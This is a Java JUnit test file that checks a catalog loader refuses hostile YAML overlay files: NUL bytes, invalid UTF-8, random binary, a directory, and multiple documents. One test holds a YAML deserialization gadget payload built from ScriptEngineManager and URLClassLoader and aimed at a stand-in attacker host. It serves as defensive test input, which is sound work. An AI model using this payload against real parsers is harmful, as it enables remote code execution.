package io.smcdoctor.catalog.hostile;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.smcdoctor.catalog.Catalog;
import io.smcdoctor.catalog.KnowledgeValidationException;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Random;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * Overlay files that are not knowledge at all: binary, NUL bytes, invalid UTF-8, YAML tags that would construct
 * objects, a directory, many documents. Each is refused with a {@link KnowledgeValidationException} naming the file;
 * alias bombs, deep nesting and oversized files are in {@code CatalogValidationTest}.
 */
class HostileOverlayTest {
    @TempDir
    Path tmp;

    private Path write(String name, byte[] content) throws IOException {
        Path f = tmp.resolve(name);
        Files.write(f, content);
        return f;
    }

    @Test
    void load_nulBytesAndInvalidUtf8_areRefusedNamingTheFile() throws IOException {
        Path nul = write("nul.yaml", "reasonCodes:\n  - code: 0x03030000\0\n".getBytes(StandardCharsets.UTF_8));
        Path latin1 = write("latin1.yaml", "reasonCodes:\n  - name: \"caf\u00e9\"\n".getBytes(StandardCharsets.ISO_8859_1));

        for (Path f : new Path[] {nul, latin1}) {
            assertThatThrownBy(() -> Catalog.load(f))
                    .isInstanceOf(KnowledgeValidationException.class)
                    .satisfies(e -> assertThat(((KnowledgeValidationException) e).problems())
                            .isNotEmpty().allSatisfy(p -> assertThat(p.file()).isEqualTo(f.toString())));
        }
    }

    @Test
    void load_globalTagsThatWouldConstructObjects_areRefused() throws IOException {
        Path f = write("tags.yaml", ("schema: smc-doctor/catalog/v1\n"
                + "reasonCodes: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
                + "[\"http://attacker.invalid/\"]]]]\n").getBytes(StandardCharsets.UTF_8));

        assertThatThrownBy(() -> Catalog.load(f)).isInstanceOf(KnowledgeValidationException.class)
                .hasMessageContaining(f.toString());
    }

    @Test
    @Timeout(value = 30, unit = TimeUnit.SECONDS)
    void load_randomBinary_isRefusedQuickly() throws IOException {
        byte[] bytes = new byte[1 << 20];
        new Random(6).nextBytes(bytes);
        Path f = write("random.yaml", bytes);

        assertThatThrownBy(() -> Catalog.load(f)).isInstanceOf(KnowledgeValidationException.class)
                .hasMessageContaining(f.toString());
    }

    @Test
    void load_directoryInsteadOfFile_isAProblemNotACrash() {
        assertThatThrownBy(() -> Catalog.load(tmp)).isInstanceOf(KnowledgeValidationException.class)
                .hasMessageContaining(tmp.toString());
    }

    @Test
    void load_manyDocumentsInOneFile_areRefused() throws IOException {
        Path f = write("multi.yaml", "schema: smc-doctor/catalog/v1\n---\nschema: smc-doctor/catalog/v1\n---\nx: 1\n"
                .getBytes(StandardCharsets.UTF_8));

        assertThatThrownBy(() -> Catalog.load(f)).isInstanceOf(KnowledgeValidationException.class)
                .hasMessageContaining(f.toString());
    }
}
